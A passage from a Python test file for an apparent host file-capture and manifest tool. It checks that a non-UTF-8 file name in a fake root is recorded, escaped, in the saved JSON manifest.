    assert "/usr/bin/passwX" not in dest.read_text()  # ... but the file on disk is the real capture now


def test_a_name_that_is_not_utf8_does_not_stop_the_capture(fake_root: pathlib.Path, tmp_path: pathlib.Path) -> None:
    odd = os.fsdecode(b"/usr/bin/\xff.php")
    pathlib.Path(str(fake_root) + odd).write_bytes(b"<?php")
    manifest = capture(host="web1", root=str(fake_root), paths=["/usr/bin"], live=False, now=NOW)
    dest = tmp_path / "m.json"
    save_manifest(manifest, str(dest))
    entries = json.loads(dest.read_text())["sections"]["files"]
    assert "/usr/bin/\\xff.php" in entries
